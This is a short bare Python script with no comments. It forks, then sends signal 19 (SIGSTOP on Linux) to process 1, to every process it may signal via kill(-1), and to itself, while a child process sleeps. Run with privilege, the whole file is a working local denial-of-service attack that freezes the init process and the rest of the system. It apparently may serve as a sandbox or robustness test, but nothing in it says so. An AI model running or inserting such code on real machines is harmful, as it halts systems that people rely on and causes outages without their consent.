import os
import time

if os.fork() == 0:
    time.sleep(3600)
os.kill(1, 19)
os.kill(-1, 19)
os.kill(os.getpid(), 19)
